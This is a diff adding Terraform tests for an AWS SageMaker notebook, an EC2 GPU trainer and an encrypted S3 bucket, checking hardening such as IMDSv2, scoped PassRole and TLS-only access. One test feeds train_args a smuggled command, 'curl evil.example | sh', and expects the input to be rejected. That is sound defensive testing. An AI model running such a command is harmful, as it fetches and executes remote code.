@@ -1,0 +1,215 @@
+# Notebook, training role, EC2 trainer and data bucket contracts.
+mock_provider "aws" {
+  mock_data "aws_caller_identity" {
+    defaults = { account_id = "123456789012" }
+  }
+  mock_data "aws_partition" {
+    defaults = { partition = "aws" }
+  }
+  mock_data "aws_region" {
+    defaults = { name = "eu-west-1" }
+  }
+}
+
+variables {
+  name                = "dogbreed-notebook"
+  job_name_prefix     = "dogbreed"
+  vpc_id              = "vpc-0123456789abcdef0"
+  vpc_cidr_block      = "10.42.0.0/16"
+  subnet_id           = "subnet-0123456789abcdef0"
+  s3_prefix_list_id   = "pl-6da54004"
+  kms_key_arn         = "arn:aws:kms:eu-west-1:123456789012:key/11111111-2222-3333-4444-555555555555"
+  kms_key_project_tag = "dogbreed"
+  bucket_name         = "dogbreed-123456789012-eu-west-1"
+  training_role_arn   = "arn:aws:iam::123456789012:role/dogbreed-sagemaker-training"
+}
+
+run "notebook_is_private_and_locked_down" {
+  command = plan
+
+  module {
+    source = "./modules/notebook"
+  }
+
+  assert {
+    condition     = aws_sagemaker_notebook_instance.this.instance_type == "ml.t3.medium"
+    error_message = "The notebook must default to ml.t3.medium."
+  }
+  assert {
+    condition     = aws_sagemaker_notebook_instance.this.direct_internet_access == "Disabled"
+    error_message = "Direct internet access must be Disabled."
+  }
+  assert {
+    condition     = aws_sagemaker_notebook_instance.this.root_access == "Disabled"
+    error_message = "Root access must be Disabled."
+  }
+  assert {
+    condition     = aws_sagemaker_notebook_instance.this.subnet_id == var.subnet_id && aws_sagemaker_notebook_instance.this.kms_key_id == var.kms_key_arn
+    error_message = "The notebook must sit in the given subnet and use the project key."
+  }
+  assert {
+    condition     = aws_sagemaker_notebook_instance.this.instance_metadata_service_configuration[0].minimum_instance_metadata_service_version == "2"
+    error_message = "The notebook must require IMDSv2."
+  }
+  assert {
+    condition     = strcontains(base64decode(aws_sagemaker_notebook_instance_lifecycle_configuration.this.on_start), "stop-when-idle.py 60")
+    error_message = "The lifecycle configuration must stop the instance after 60 idle minutes by default."
+  }
+}
+
+run "notebook_passes_only_the_training_role" {
+  command = plan
+
+  module {
+    source = "./modules/notebook"
+  }
+
+  assert {
+    condition     = [for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s if s.Action == "iam:PassRole"][0].Resource == var.training_role_arn
+    error_message = "iam:PassRole must name only the training role."
+  }
+  assert {
+    condition     = [for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s if s.Action == "iam:PassRole"][0].Condition.StringEquals["iam:PassedToService"] == "sagemaker.amazonaws.com"
+    error_message = "The training role may be passed to SageMaker only."
+  }
+  assert {
+    condition = alltrue([for s in jsondecode(aws_iam_role_policy.this.policy).Statement :
+    alltrue([for r in flatten([s.Resource]) : r != "*"])])
+    error_message = "The notebook policy must not use Resource \"*\"."
+  }
+  assert {
+    condition     = contains([for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s.Resource if s.Sid == "RunProjectTrainingJobs"], "arn:aws:sagemaker:eu-west-1:123456789012:training-job/dogbreed-*")
+    error_message = "Training jobs must be limited to <job_name_prefix>-*."
+  }
+}
+
+run "rejects_upper_case_job_prefix" {
+  command = plan
+
+  module {
+    source = "./modules/notebook"
+  }
+
+  variables {
+    job_name_prefix = "DogBreed"
+  }
+
+  expect_failures = [var.job_name_prefix]
+}
+
+run "ec2_trainer_is_hardened" {
+  command = plan
+
+  module {
+    source = "./modules/ec2_trainer"
+  }
+
+  variables {
+    name               = "dogbreed"
+    user_data_template = "tests/fixtures/user_data.sh.tftpl"
+    data_s3_uri        = "s3://dogbreed-123456789012-eu-west-1/data/dogImages/"
+    train_args         = "--epochs 10 --batch-size 64"
+    use_spot           = true
+  }
+
+  assert {
+    condition     = aws_instance.this.instance_type == "g4dn.xlarge" && aws_instance.this.instance_initiated_shutdown_behavior == "terminate"
+    error_message = "The trainer must default to g4dn.xlarge and terminate on shutdown."
+  }
+  assert {
+    condition     = aws_instance.this.metadata_options[0].http_tokens == "required"
+    error_message = "The trainer must require IMDSv2."
+  }
+  assert {
+    condition     = aws_instance.this.root_block_device[0].encrypted && aws_instance.this.root_block_device[0].kms_key_id == var.kms_key_arn
+    error_message = "The root volume must be encrypted with the project key."
+  }
+  assert {
+    condition     = aws_instance.this.instance_market_options[0].market_type == "spot"
+    error_message = "use_spot must request a spot instance."
+  }
+  assert {
+    condition     = length(data.aws_ssm_parameter.dlami) == 1
+    error_message = "Without ami_id the Deep Learning AMI must be resolved through SSM."
+  }
+  assert {
+    condition = alltrue([for fragment in ["s3://dogbreed-123456789012-eu-west-1/code/", "s3://dogbreed-123456789012-eu-west-1/data/dogImages/", "s3://dogbreed-123456789012-eu-west-1/ec2-runs/", "--epochs 10 --batch-size 64"] :
+    strcontains(base64decode(aws_instance.this.user_data_base64), fragment)])
+    error_message = "The user data must be rendered with code_s3_uri, data_s3_uri, output_s3_uri and train_args."
+  }
+}
+
+run "ec2_trainer_uses_an_explicit_ami" {
+  command = plan
+
+  module {
+    source = "./modules/ec2_trainer"
+  }
+
+  variables {
+    name               = "dogbreed"
+    ami_id             = "ami-0123456789abcdef0"
+    user_data_template = "tests/fixtures/user_data.sh.tftpl"
+    data_s3_uri        = "s3://dogbreed-123456789012-eu-west-1/data/dogImages/"
+  }
+
+  assert {
+    condition     = length(data.aws_ssm_parameter.dlami) == 0 && aws_instance.this.ami == "ami-0123456789abcdef0"
+    error_message = "ami_id must override the SSM lookup."
+  }
+}
+
+run "ec2_trainer_rejects_shell_metacharacters_in_train_args" {
+  command = plan
+
+  module {
+    source = "./modules/ec2_trainer"
+  }
+
+  variables {
+    name               = "dogbreed"
+    user_data_template = "tests/fixtures/user_data.sh.tftpl"
+    data_s3_uri        = "s3://dogbreed-123456789012-eu-west-1/data/dogImages/"
+    train_args         = "--epochs 1; curl evil.example | sh"
+  }
+
+  expect_failures = [var.train_args]
+}
+
+run "data_bucket_is_private_encrypted_and_versioned" {
+  command = plan
+
+  module {
+    source = "./modules/data_bucket"
+  }
+
+  variables {
+    name = "dogbreed"
+  }
+
+  assert {
+    condition     = aws_s3_bucket.this.bucket == "dogbreed-123456789012-eu-west-1"
+    error_message = "The bucket name must be <name>-<account>-<region>."
+  }
+  assert {
+    condition     = aws_s3_bucket_versioning.this.versioning_configuration[0].status == "Enabled"
+    error_message = "Versioning must be enabled."
+  }
+  assert {
+    condition     = one(aws_s3_bucket_server_side_encryption_configuration.this.rule).apply_server_side_encryption_by_default[0].sse_algorithm == "aws:kms"
+    error_message = "The bucket must use SSE-KMS."
+  }
+  assert {
+    condition = (aws_s3_bucket_public_access_block.this.block_public_acls && aws_s3_bucket_public_access_block.this.block_public_policy
+    && aws_s3_bucket_public_access_block.this.ignore_public_acls && aws_s3_bucket_public_access_block.this.restrict_public_buckets)
+    error_message = "All four public access blocks must be on."
+  }
+  assert {
+    condition     = jsondecode(aws_s3_bucket_policy.this.policy).Statement[0].Condition.Bool["aws:SecureTransport"] == "false" && jsondecode(aws_s3_bucket_policy.this.policy).Statement[0].Effect == "Deny"
+    error_message = "The bucket policy must deny requests without TLS."
+  }
+  assert {
+    condition     = aws_kms_key.this.enable_key_rotation
+    error_message = "The customer key must rotate."
+  }
+}
